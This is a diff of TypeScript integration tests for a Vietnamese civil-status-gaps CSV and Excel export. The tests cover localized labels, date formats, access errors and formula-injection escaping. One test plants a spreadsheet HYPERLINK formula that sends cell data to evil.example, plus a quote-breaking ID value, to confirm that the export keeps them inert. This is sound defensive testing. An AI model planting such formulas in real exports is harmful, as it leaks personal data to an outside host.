@@ -1,3 +1,4 @@
+import { parse as parseCsv } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
 import { AGENCIES } from '../../src/auth/principal';
 import { GAP_KINDS, type GapKind } from '../../src/subgraphs/registry/gaps/gap-rules';
@@ -244,10 +245,14 @@ describe('civil-status gaps', () => {
   });
 
   describe('download endpoint', () => {
-    const download = async (pathAndQuery: string, token: string | null) => {
-      const response = await fetch(new URL(pathAndQuery, stack.gateway.url), { headers: token ? { authorization: `Bearer ${token}` } : {} });
+    const download = async (pathAndQuery: string, token: string | null, method = 'GET') => {
+      const response = await fetch(new URL(pathAndQuery, stack.gateway.url), { method, headers: token ? { authorization: `Bearer ${token}` } : {} });
       return { status: response.status, type: response.headers.get('content-type'), bytes: Buffer.from(await response.arrayBuffer()) };
     };
+    /** The CSV's records, BOM stripped, as csv-parse reads them (what a program importing the file sees). */
+    const records = (bytes: Buffer): string[][] => parseCsv(bytes.toString('utf8').slice(1), { relax_column_count: false });
+    /** A code cell written in Excel's text form: `="…"` with every quote of the value doubled. */
+    const textFormula = (value: string) => `="${value.replace(/"/g, '""')}"`;
 
     it('streams the list as CSV with a BOM, English or Vietnamese headers and Vietnamese names intact', async () => {
       const some = stack.truth.find((t) => plantedKinds(t).size > 0 && /[^\x00-\x7f]/.test(t.fullName))!;
@@ -265,7 +270,8 @@ describe('civil-status gaps', () => {
       const vi = await download(`/exports/civil-status-gaps.csv?provinceCode=${some.provinceCode}&kinds=NO_PERSONAL_ID,LATE_BIRTH_REGISTRATION&lang=vi`, token);
       const viLines = vi.bytes.toString('utf8').slice(1).trimEnd().split('\r\n');
       expect(viLines[0]).toBe('Mã trẻ em,Họ và tên,Ngày sinh,Giới tính,Mã tỉnh,Mã xã,Số định danh cá nhân,Thiếu sót,Cơ quan phát hiện,Từ ngày');
-      expect(viLines.slice(1).every((l) => /NO_PERSONAL_ID|LATE_BIRTH_REGISTRATION/.test(l))).toBe(true);
+      expect(viLines.length).toBeGreaterThan(1);
+      expect(viLines.slice(1).every((l) => /Chưa có số định danh cá nhân|Đăng ký khai sinh quá hạn/.test(l))).toBe(true);
       const log = await stack.dbs.registry.$queryRawUnsafe<{ n: number }[]>(
         `SELECT count(*)::int AS n FROM "registry"."AccessLog" WHERE "operationName" = 'Export' AND "agency" = 'JUSTICE' AND "childIds" @> ARRAY[$1]::text[]`,
         some.childId,
@@ -273,7 +279,66 @@ describe('civil-status gaps', () => {
       expect(log[0].n).toBeGreaterThan(0);
     });
 
-    it('streams the same list as an Excel workbook', async () => {
+    it('writes coded values as labels in the caller\'s language, codes in Excel\'s text form, dates in ISO', async () => {
+      const token = await stack.token('JUSTICE');
+      const [, ...vi] = records((await download('/exports/civil-status-gaps.csv?lang=vi', token)).bytes);
+      const [, ...en] = records((await download('/exports/civil-status-gaps.csv?lang=en', token)).bytes);
+      expect(vi.length).toBeGreaterThan(50);
+      expect(vi.map((r) => r[0])).toEqual(en.map((r) => r[0]));
+      const gapsVi = new Set(vi.flatMap((r) => r[7].split('; ')));
+      // Every planted kind appears, each under its Vietnamese label and never as its enum code.
+      expect([...gapsVi].sort()).toEqual(
+        ['Chưa có số định danh cá nhân', 'Chưa đăng ký khai sinh', 'Chưa đăng ký thường trú', 'Đăng ký khai sinh quá hạn', 'Thông tin nhân thân không thống nhất',
+          'Trẻ bị bỏ rơi chưa hoàn thiện hồ sơ pháp lý', 'Việc nuôi con nuôi chưa được đăng ký'].sort(),
+      );
+      expect(new Set(en.flatMap((r) => r[7].split('; ')))).toContain('No birth registration');
+      expect(new Set(vi.map((r) => r[3]))).toEqual(new Set(['Nam', 'Nữ']));
+      expect(new Set(en.map((r) => r[3]))).toEqual(new Set(['Male', 'Female']));
+      expect(new Set(vi.flatMap((r) => r[8].split('; ')))).toEqual(new Set(['Công an', 'Tư pháp', 'Giáo dục', 'Y tế', 'Bảo trợ xã hội']));
+      const masters = new Map((await stack.dbs.registry.masterChild.findMany({ where: { id: { in: vi.map((r) => r[0]) } } })).map((m) => [m.id, m]));
+      for (const row of vi) {
+        const master = masters.get(row[0])!;
+        expect({ child: row[0], province: row[4], commune: row[5] }).toEqual({ child: row[0], province: textFormula(master.provinceCode), commune: textFormula(master.communeCode) });
+        expect(row[6]).toMatch(/^(|="\d{12}")$/);
+        expect(row[2]).toMatch(/^\d{4}-\d{2}-\d{2}$/);
+      }
+      // The codes that lose most: commune codes of province 01 begin with zeros.
+      expect(vi.some((r) => /^="00\d{3}"$/.test(r[5]))).toBe(true);
+    });
+
+    it('keeps data that looks like a formula inert, in both a text cell and a code cell', async () => {
+      const token = await stack.token('JUSTICE');
+      const [, first] = records((await download('/exports/civil-status-gaps.csv', token)).bytes);
+      const before = await stack.dbs.registry.masterChild.findUniqueOrThrow({ where: { id: first[0] } });
+      const injectedName = '=HYPERLINK("http://evil.example/?"&A1,"Nguyễn Văn An")';
+      // A personal ID that would close the wrapper's string literal if its quotes were not doubled.
+      const injectedId = '1"&A1&"';
+      await stack.dbs.registry.masterChild.update({ where: { id: before.id }, data: { fullName: injectedName, personalId: injectedId } });
+      try {
+        const csv = await download('/exports/civil-status-gaps.csv', token);
+        const row = records(csv.bytes).find((r) => r[0] === before.id)!;
+        expect(row[1]).toBe(`'${injectedName}`);
+        expect(row[6]).toBe('="1""&A1&"""');
+        // One string literal from the first quote to the last: every inner quote doubled.
+        expect(row[6]).toMatch(/^="(?:[^"]|"")*"$/);
+        const workbook = new ExcelJS.Workbook();
+        await workbook.xlsx.load((await download('/exports/civil-status-gaps.xlsx', token)).bytes as unknown as ArrayBuffer);
+        const sheet = workbook.worksheets[0];
+        let found = 0;
+        sheet.eachRow((r) => {
+          if (r.getCell(1).value !== before.id) return;
+          found += 1;
+          expect(r.getCell(2).type).toBe(ExcelJS.ValueType.String);
+          expect(r.getCell(2).value).toBe(injectedName);
+          expect(r.getCell(7).value).toBe(injectedId);
+        });
+        expect(found).toBe(1);
+      } finally {
+        await stack.dbs.registry.masterChild.update({ where: { id: before.id }, data: { fullName: before.fullName, personalId: before.personalId } });
+      }
+    });
+
+    it('streams the same list as an Excel workbook: frozen header, autofilter, date cells, codes as text', async () => {
       const xlsx = await download('/exports/civil-status-gaps.xlsx?lang=vi&ageTo=5', await stack.token('SOCIAL'));
       expect(xlsx.status).toBe(200);
       const workbook = new ExcelJS.Workbook();
@@ -282,27 +347,48 @@ describe('civil-status gaps', () => {
       expect(sheet.getRow(1).getCell(2).value).toBe('Họ và tên');
       const { totalCount } = await allGaps({ ageTo: 5 }, await stack.token('SOCIAL'), 500);
       expect(sheet.actualRowCount - 1).toBe(totalCount);
+      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
+      expect(sheet.autoFilter).toBe(`A1:J${totalCount + 1}`);
+      const row = sheet.getRow(2);
+      const master = await stack.dbs.registry.masterChild.findUniqueOrThrow({ where: { id: row.getCell(1).value as string } });
+      expect(row.getCell(3).value).toEqual(master.birthDate);
+      expect(row.getCell(3).numFmt).toBe('dd/mm/yyyy');
+      expect(row.getCell(10).value).toBeInstanceOf(Date);
+      expect(row.getCell(4).value).toMatch(/^(Nam|Nữ)$/);
+      for (const [column, code] of [[5, master.provinceCode], [6, master.communeCode]] as const) {
+        expect({ column, value: row.getCell(column).value, format: row.getCell(column).numFmt }).toEqual({ column, value: code, format: '@' });
+      }
+      const en = new ExcelJS.Workbook();
+      await en.xlsx.load((await download('/exports/civil-status-gaps.xlsx?lang=en&ageTo=5', await stack.token('SOCIAL'))).bytes as unknown as ArrayBuffer);
+      expect(en.worksheets[0].getRow(2).getCell(3).numFmt).toBe('yyyy-mm-dd');
     });
 
-    it('refuses without a token, for a forbidden agency, and for parameters it does not know', async () => {
-      expect((await download('/exports/civil-status-gaps.csv', null)).status).toBe(401);
+    it('refuses without a token, for a forbidden agency, and for parameters it does not know, as GraphQL errors', async () => {
+      const errorOf = (bytes: Buffer) => (JSON.parse(bytes.toString()) as { errors: { message: string; extensions: { code: string } }[] }).errors[0];
+      const anonymous = await download('/exports/civil-status-gaps.csv', null);
+      expect({ status: anonymous.status, code: errorOf(anonymous.bytes).extensions.code }).toEqual({ status: 401, code: 'UNAUTHENTICATED' });
       const education = await download('/exports/civil-status-gaps.csv', await stack.token('EDUCATION'));
       expect(education.status).toBe(403);
-      expect(education.bytes.toString()).toMatch(/EDUCATION may not read Query.civilStatusGaps/);
+      expect(errorOf(education.bytes)).toEqual({ message: expect.stringMatching(/^EDUCATION may not read Query.civilStatusGaps/), extensions: { code: 'UNAUTHORIZED_FIELD_OR_TYPE' } });
+      expect(errorOf(education.bytes).message).not.toMatch(/\.md|schema\//);
       const token = await stack.token('JUSTICE');
-      const cases: [string, number, RegExp][] = [
-        ['/exports/civil-status-gaps.csv?province=01', 400, /unknown parameter "province"; this export takes ageFrom, ageTo, communeCode, detectedBy, kinds, provinceCode, lang/],
-        ['/exports/civil-status-gaps.csv?ageTo=five', 400, /"ageTo" must be a whole number/],
-        ['/exports/civil-status-gaps.csv?kinds=LOST', 400, /"LOST" is not a value of parameter "kinds"/],
-        ['/exports/civil-status-gaps.csv?provinceCode=99', 400, /not one of the 34 province codes/],
-        ['/exports/civil-status-gaps.csv?lang=fr', 400, /lang must be "en" or "vi"/],
-        ['/exports/dropouts.csv', 404, /no such export/],
+      const cases: [string, number, string, RegExp][] = [
+        ['/exports/civil-status-gaps.csv?province=01', 400, 'BAD_USER_INPUT', /unknown parameter "province"; this export takes ageFrom, ageTo, communeCode, detectedBy, kinds, provinceCode, lang/],
+        ['/exports/civil-status-gaps.csv?ageTo=five', 400, 'BAD_USER_INPUT', /"ageTo" must be a whole number/],
+        ['/exports/civil-status-gaps.csv?kinds=LOST', 400, 'BAD_USER_INPUT', /"LOST" is not a value of parameter "kinds"/],
+        ['/exports/civil-status-gaps.csv?provinceCode=99', 400, 'BAD_USER_INPUT', /not one of the 34 province codes/],
+        ['/exports/civil-status-gaps.csv?lang=fr', 400, 'BAD_USER_INPUT', /lang must be "en" or "vi"/],
+        ['/exports/dropouts.csv', 404, 'NOT_FOUND', /no such export/],
       ];
-      for (const [path, status, message] of cases) {
+      for (const [path, status, code, message] of cases) {
         const response = await download(path, token);
-        expect({ path, status: response.status }).toEqual({ path, status });
-        expect((JSON.parse(response.bytes.toString()) as { error: string }).error).toMatch(message);
+        expect(response.type).toBe('application/json; charset=utf-8');
+        const error = errorOf(response.bytes);
+        expect({ path, status: response.status, code: error.extensions.code }).toEqual({ path, status, code });
+        expect(error.message).toMatch(message);
       }
+      const posted = await download('/exports/civil-status-gaps.csv', token, 'POST');
+      expect({ status: posted.status, code: errorOf(posted.bytes).extensions.code }).toEqual({ status: 405, code: 'METHOD_NOT_ALLOWED' });
     });
   });
 });
